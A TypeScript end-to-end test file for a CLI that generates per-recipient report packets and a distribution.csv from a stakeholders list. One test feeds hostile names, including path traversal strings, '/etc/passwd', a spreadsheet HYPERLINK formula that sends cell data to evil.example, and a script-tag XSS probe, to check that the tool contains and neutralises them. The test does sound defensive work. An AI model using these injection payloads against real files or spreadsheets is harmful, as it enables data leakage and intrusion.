// End to end: `packets` on the sample stakeholders list, and on a list with hostile names.

import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { sha256 as sha256Hex } from '../../pipeline/core/hash.js';
import { hasTool, pdfText, runCli, scratchProject, YEAR } from '../helpers/cli.js';

let dir: string;
const packets = () => join(dir, `out/${YEAR}/packets`);
const distribution = () =>
  parse(readFileSync(join(packets(), 'distribution.csv'), 'utf8'), { columns: true }) as Record<string, string>[];

function allFiles(root: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      if (statSync(p).isDirectory()) walk(p);
      else out.push(relative(root, p));
    }
  };
  walk(root);
  return out.sort();
}

beforeAll(() => {
  dir = scratchProject('hlsd-packets-');
  const r = runCli(['packets'], { cwd: dir });
  expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
  expect(r.status).toBe(0);
  // Nothing is published in a fresh project: the packets say which unfrozen revision they carry.
  expect(r.stderr).toMatch(
    /stakeholders\.csv\s+warning\s+packets\/unpublished\s+the packets carry revision 1, which is not published yet/,
  );
}, 240_000);

describe.skipIf(!hasTool('pdftotext'))('packets', () => {
  it('writes one listed file per recipient of the sample list, with checksums and the revision', () => {
    const rows = distribution();
    expect(rows.map((r) => r.file)).toEqual([
      `HLSD-${YEAR}-annual-report-r1-EN.pdf`,
      `HLSD-${YEAR}-annual-report-r1-ES.pdf`,
      `HLSD-${YEAR}-annual-report-r1-EN.html`,
      `HLSD-${YEAR}-excerpt-r1-EN-example-public-health-analyst.pdf`,
      `HLSD-${YEAR}-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf`,
      `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`,
    ]);
    expect(Object.keys(rows[0]!)).toEqual([
      'recipient',
      'organisation',
      'email',
      'language',
      'format',
      'scope',
      'goals',
      'actions',
      'file',
      'sha256',
      'revision',
    ]);
    for (const row of rows) {
      expect(sha256Hex(readFileSync(join(packets(), row.file!)))).toBe(row.sha256);
      expect(row.revision).toBe('1');
    }
    // A full report is the build's own file, byte for byte.
    expect(readFileSync(join(packets(), `HLSD-${YEAR}-annual-report-r1-ES.pdf`))).toEqual(
      readFileSync(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`)),
    );
  });

  it('an excerpt holds only the requested goal and actions, with cover, contents and methodology', () => {
    const text = pdfText(join(packets(), `HLSD-${YEAR}-excerpt-r1-ES-analista-de-ejemplo-en-seguridad-fronteriza.pdf`));
    const flat = text.replace(/\s+/g, ' ');
    expect(flat).toContain('Extracto: Objetivo 2, Acción 7 y Acción 8, con la metodología');
    expect(flat).toContain('Revisión 1');
    expect(text).toMatch(/^\s*Objetivo 2: /m);
    expect(text).not.toMatch(/^\s*Objetivo [13]: /m);
    expect(text).toMatch(/Metodología/);
    // Action sections (headings "Acción N: …" at the start of a line); the goal's milestone table may name other actions.
    expect(new Set([...text.matchAll(/^\s*Acción (\d+): /gm)].map((m) => m[1]))).toEqual(new Set(['7', '8']));
    for (const left of ['Resumen ejecutivo', 'Historial de revisiones', 'Glosario de siglas'])
      expect(flat).not.toContain(left);
    const full = pdfText(join(dir, `out/${YEAR}/hlsd-report-${YEAR}-es.pdf`));
    expect(full.length).toBeGreaterThan(text.length * 1.5);

    const en = readFileSync(
      join(packets(), `HLSD-${YEAR}-excerpt-r1-EN-example-financial-crimes-liaison.html`),
      'utf8',
    );
    const visible = en.replace(/<style[\s\S]*?<\/style>/g, '').replace(/<[^>]+>/g, ' ');
    expect(new Set([...visible.matchAll(/Action (\d+)/g)].map((m) => m[1]))).toEqual(new Set(['11', '12']));
    expect(visible).not.toMatch(/Goal \d+:/);
  });

  it('keeps hostile names inside the packets folder and neutralises them in distribution.csv', () => {
    const list = join(dir, 'hostile.csv');
    writeFileSync(
      list,
      [
        'recipient,organisation,email,language,format,goals,actions,scope',
        '../../evil,Org,,en,pdf,1,,excerpt',
        '"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),,es,pdf,3,,excerpt',
        '<script>alert(1)</script>,+cmd,,en,html,,4,excerpt',
        '../../evil,Other Org,,es,pdf,2,,excerpt',
        '/etc/passwd,-2+3,,en,pdf,,,full',
      ].join('\n') + '\n',
    );
    const before = allFiles(dir).filter((f) => !f.startsWith(`out/${YEAR}/packets/`));
    const around = readdirSync(join(dir, '..')).filter((n) => /evil|passwd/.test(n));
    const r = runCli(['packets', '--stakeholders', 'hostile.csv'], { cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    const after = allFiles(dir).filter((f) => !f.startsWith(`out/${YEAR}/packets/`));
    expect(after).toEqual(before);
    expect(readdirSync(join(dir, '..')).filter((n) => /evil|passwd/.test(n))).toEqual(around);

    const rows = distribution();
    expect(rows.map((x) => x.file)).toEqual([
      `HLSD-${YEAR}-excerpt-r1-EN-evil.pdf`,
      `HLSD-${YEAR}-excerpt-r1-ES-hyperlink-http-evil-example-a1-click.pdf`,
      `HLSD-${YEAR}-excerpt-r1-EN-script-alert-1-script.html`,
      `HLSD-${YEAR}-excerpt-r1-ES-evil-2.pdf`,
      `HLSD-${YEAR}-annual-report-r1-EN.pdf`,
    ]);
    // The sample list's excerpts are gone: only this list's packets remain.
    expect(readdirSync(packets()).sort()).toEqual(
      [...new Set([...rows.map((x) => x.file!), 'distribution.csv'])].sort(),
    );
    expect(r.stderr).toMatch(
      new RegExp(`remove\\s+out/${YEAR}/packets/HLSD-${YEAR}-excerpt-r1-EN-example-public-health-analyst\\.pdf`),
    );
    expect(rows[1]!.recipient).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[1]!.organisation).toBe("'@SUM(1+1)");
    expect(rows[2]!.organisation).toBe("'+cmd");
    expect(rows[4]!.organisation).toBe("'-2+3");
    expect(rows[2]!.recipient).toBe('<script>alert(1)</script>');
    // No cell of the written file starts a formula.
    const raw = parse(readFileSync(join(packets(), 'distribution.csv'), 'utf8')) as string[][];
    for (const cell of raw.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
    // The name never reaches the packet itself.
    expect(readFileSync(join(packets(), rows[2]!.file!), 'utf8')).not.toContain('alert(1)');
  }, 240_000);

  it('reports an invalid list with positions and writes nothing', () => {
    const before = allFiles(dir).map((f) => [f, statSync(join(dir, f)).mtimeMs]);
    writeFileSync(
      join(dir, 'bad.csv'),
      'recipient,organisation,email,language,format,goals,actions,scope\nAna,Org,,fr,pdf,9,,excerpt\n',
    );
    const r = runCli(['packets', '--stakeholders', 'bad.csv'], { cwd: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/bad\.csv:2:\d+\s+error\s+stakeholder\/language/);
    expect(r.stderr).toMatch(/bad\.csv:2:\d+\s+error\s+stakeholder\/goal\s+there is no goal 9/);
    expect(r.stderr).toMatch(/hint:/);
    expect(
      allFiles(dir)
        .filter((f) => f !== 'bad.csv')
        .map((f) => [f, statSync(join(dir, f)).mtimeMs]),
    ).toEqual(before);
  }, 120_000);
});
